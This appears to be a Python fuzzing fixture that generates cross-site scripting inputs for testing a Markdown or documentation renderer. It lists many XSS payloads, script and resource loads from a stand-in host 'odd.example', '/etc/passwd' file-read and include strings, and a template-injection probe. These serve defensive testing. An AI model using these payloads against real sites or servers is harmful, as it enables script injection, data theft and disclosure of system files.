"""Hostile prose, made from a seed: what somebody might write into notes, titles and answers to get something run or fetched.

    for name, text in odd_prose(seed=1, count=500): …

Whatever runs calls `odd(…)`, whatever asks another site asks `ODD_HOST`: so both can be watched
in a browser, and looked for in the files.
"""

from __future__ import annotations

import random
from collections.abc import Iterator

ODD_HOST = "odd.example"
_RUN = "odd(1)"
_TAGS = (
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "button",
    "meta",
    "base",
    "link",
    "svg",
    "math",
    "video",
    "audio",
    "source",
    "track",
    "frameset",
    "applet",
    "template",
    "noscript",
    "textarea",
    "title",
    "marquee",
    "select",
    "dialog",
    "portal",
    "body",
    "html",
    "head",
    "img",
    "details",
    "a",
    "p",
    "div",
    "x-odd",
    "image",
    "isindex",
    "xmp",
    "plaintext",
    "listing",
)
_EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onbegin",
    "onpointerenter",
    "onauxclick",
    "onbeforetoggle",
    "ONERROR",
    "oNloAd",
)
_ADDRESSES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f" javascript:{_RUN}",
    f"java\tscript:{_RUN}",
    f"java&#10;script:{_RUN}",
    f"&#106;avascript:{_RUN}",
    f"&#x6A;avascript&colon;{_RUN}",
    f"\1javascript:{_RUN}",
    f"vbscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5vZGQoMSk8L3NjcmlwdD4=",
    f"data:image/svg+xml,<svg onload={_RUN}>",
    f"//{ODD_HOST}/a.png",
    f"https://{ODD_HOST}/a.png",
    f"HTTPS://{ODD_HOST}/a.png",
    f"/\\{ODD_HOST}/a.png",
    f"\\\\{ODD_HOST}\\a.png",
    f"/\t/{ODD_HOST}/a.png",
    f"///{ODD_HOST}/a.png",
    f"https:{ODD_HOST}/a.png",
    f"ftp://{ODD_HOST}/a.png",
    f"blob:https://{ODD_HOST}/x",
    "file:///etc/passwd",
    f"view-source:https://{ODD_HOST}/",
    f"jar:https://{ODD_HOST}!/",
    f"ws://{ODD_HOST}",
)
_LOADING = (
    "src",
    "href",
    "srcset",
    "data",
    "poster",
    "action",
    "formaction",
    "background",
    "xlink:href",
    "ping",
    "cite",
    "longdesc",
    "manifest",
    "content",
    "srcdoc",
    "imagesrcset",
    "lowsrc",
    "dynsrc",
    "style",
    "icon",
    "codebase",
    "archive",
    "classid",
)
_WHOLE = (
    f"<script>{_RUN}</script>",
    f"<SCRIPT SRC=https://{ODD_HOST}/x.js></SCRIPT>",
    f"<script/odd>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script>{_RUN}",
    f"<<script>{_RUN}//<</script>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg onload={_RUN}>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}>#x'/></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{_RUN}</script>'></foreignObject></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={_RUN}&gt;'>",
    f"<math href='javascript:{_RUN}'>x</math>",
    f"<math><maction actiontype=statusline#https://{ODD_HOST} xlink:href=javascript:{_RUN}>x",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<title><p title='</title><img src=x onerror={_RUN}>'>",
    f"<textarea><img title='</textarea><img src=x onerror={_RUN}>'>",
    f"<select><template><img src=x onerror={_RUN}></template></select>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<!-- --!><img src=x onerror={_RUN}> -->",
    f"<![CDATA[><img src=x onerror={_RUN}>]]>",
    f"<?xml-stylesheet href='javascript:{_RUN}'?>",
    f"<!DOCTYPE x [<!ENTITY x '<img src=x onerror={_RUN}>'>]>&x;",
    f"</p></div></div></article></main><script>{_RUN}</script>",
    f"<meta http-equiv=refresh content='0;url=https://{ODD_HOST}/'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    f"<base href=https://{ODD_HOST}/>",
    f"<link rel=stylesheet href=https://{ODD_HOST}/x.css>",
    f"<link rel=prefetch href=https://{ODD_HOST}/x>",
    f"<link rel=dns-prefetch href=//{ODD_HOST}>",
    f"<style>@import url(https://{ODD_HOST}/x.css); body {{ display: none }}</style>",
    f"<p style='background:url(https://{ODD_HOST}/x.png)'>x</p>",
    f"<iframe src=https://{ODD_HOST}/></iframe>",
    f"<iframe srcdoc='&lt;script&gt;parent.{_RUN}&lt;/script&gt;'></iframe>",
    f"<object data=https://{ODD_HOST}/x.swf></object>",
    f"<embed src=https://{ODD_HOST}/x>",
    f"<form action=https://{ODD_HOST}/><input name=q><button>Send</button></form>",
    f"<button formaction='javascript:{_RUN}'>x</button>",
    f"<video poster=https://{ODD_HOST}/x.png src=https://{ODD_HOST}/x.mp4 onerror={_RUN}></video>",
    f"<audio autoplay onloadstart={_RUN} src=https://{ODD_HOST}/x.ogg>",
    f"<picture><source srcset=https://{ODD_HOST}/x.png><img src=photos/x.png></picture>",
    f"<img srcset='https://{ODD_HOST}/x.png 2x'>",
    f"<img src=x onerror={_RUN}>",
    f"<a href=x ping=https://{ODD_HOST}/>x</a>",
    f"<details open ontoggle={_RUN}>x</details>",
    "<div id=__config name=location>x</div>",
    "<a id=document name=cookie href=x>x</a>",
    "<form id=body><input name=attributes></form>",
    f"<p class='md-search' data-md-component=search onclick={_RUN}>x</p>",
    f"<div markdown='1'>\n<script>{_RUN}</script>\n</div>",
    f"<div markdown='block' onclick='{_RUN}'>\n*x*\n</div>",
    f"<p markdown='span'><img src=x onerror={_RUN}></p>",
    f"x{{: onclick={_RUN} }}\n",
    f"# Head {{: onclick='{_RUN}' style='x:y' id=__search }}",
    f"![x](photos/x.png){{: onerror={_RUN} srcset=https://{ODD_HOST}/x.png }}",
    f"[x](#){{: href='javascript:{_RUN}' }}",
    f"[x][r]\n\n[r]: javascript:{_RUN} 'x'",
    f"![x][r]\n\n[r]: https://{ODD_HOST}/x.png",
    f"<javascript:{_RUN}>",
    f"[x](<javascript:{_RUN}>)",
    f"[x](javascript&colon;{_RUN})",
    f'[a](x "onclick={_RUN}")',
    f"[a](x'onclick={_RUN}//)",
    f'![" onerror={_RUN} x="](x)',
    f"`<img src=x onerror={_RUN}>`",
    f"```html\n<script>{_RUN}</script>\n```",
    f"    <script>{_RUN}</script>",
    f"x[^f]\n\n[^f]: <script>{_RUN}</script>",
    f"[^<img src=x onerror={_RUN}>]: x\n\nx[^<img src=x onerror={_RUN}>]",
    f'*[HTML]: " onclick={_RUN}\n\nHTML',
    f"term\n:   <img src=x onerror={_RUN}>",
    f"| a |\n|---|\n| <img src=x onerror={_RUN}> |",
    "{{ 7 * 7 }} {{ config }} {% raw %}{% include '/etc/passwd' %}{{ ''.__class__.__mro__ }}",
    '--8<-- "/etc/passwd"',
    "--- \ntemplate: 404.html\nhide: [toc]\n---\n",
    f"---\ntitle: <script>{_RUN}</script>\nsearch: {{exclude: true}}\n---\nx",
    "</script></style></title></textarea>",
    "]]> &lt;script&gt;odd(1)&lt;/script&gt; &amp;lt;img src=x onerror=odd(1)&amp;gt;",
    "\u202eevil \u2028 \u2029 \ufeff",
    "${odd(1)} #{odd(1)} <%= odd(1) %>",
    f'"><img src=x onerror={_RUN}>',
    f"'><svg/onload={_RUN}>",
    f"--><img src=x onerror={_RUN}>",
    f"`-{_RUN}-`",
    f"';{_RUN};//",
    "&\"'<>`=",
    ":material-alert: :smile: ==x== ^^x^^ ++ctrl++ [=50%]{: .x}",
    "[TOC]",
    "[[[[",
    "<" * 50,
    "<a" * 20 + ">",
    "<b>" * 60,
    "> " * 60 + "x",
    "- " * 40 + "x",
)


def odd_prose(seed: int, count: int) -> Iterator[tuple[str, str]]:
    """Names and texts: first each known family once, then as many put together by chance.

    Args:
        seed: chooses them.
        count: how many.
    """
    chance = random.Random(seed)
    for n in range(count):
        yield f"{n:05}", _WHOLE[n] if n < len(_WHOLE) else _made(chance)


def _made(chance: random.Random) -> str:
    kind = chance.randrange(5)
    if kind == 0:
        return chance.choice(_WHOLE).replace("img", chance.choice(("img", "image", "IMG", "img/", "\0img"))) + chance.choice(_WHOLE)
    if kind == 1:
        tag, attribute, address, quote = (
            chance.choice(_TAGS),
            chance.choice(_LOADING),
            chance.choice(_ADDRESSES),
            chance.choice(("'", '"', "", "`")),
        )
        return f"<{tag}{chance.choice((' ', '/', chr(9), chr(12)))}{attribute}={quote}{address}{quote} {chance.choice(_EVENTS)}={_RUN}>x</{tag}>"
    if kind == 2:
        return chance.choice(
            (
                "[x]({})",
                "![x]({})",
                "<{}>",
                "[x](<{}>)",
                "[r]: {}\n\n[x][r] ![x][r]",
                "<a href='{}'>x</a>",
                "<img src='{}'>",
                "[x]({} 'title')",
            )
        ).format(chance.choice(_ADDRESSES))
    if kind == 3:
        text = chance.choice(_WHOLE)
        at = chance.randrange(len(text) + 1)
        return (
            text[:at]
            + chance.choice(
                (
                    "<",
                    ">",
                    '"',
                    "'",
                    "\n\n",
                    "`",
                    "&",
                    "\0",
                    "<!--",
                    "-->",
                    "]]>",
                    "</p>",
                    "<p>",
                    "<div markdown=1>",
                    "{: x }",
                    "    ",
                    "\n> ",
                    "\n- ",
                )
            )
            + text[at:]
        )
    return "\n\n".join(chance.choice(_WHOLE) for _ in range(3))
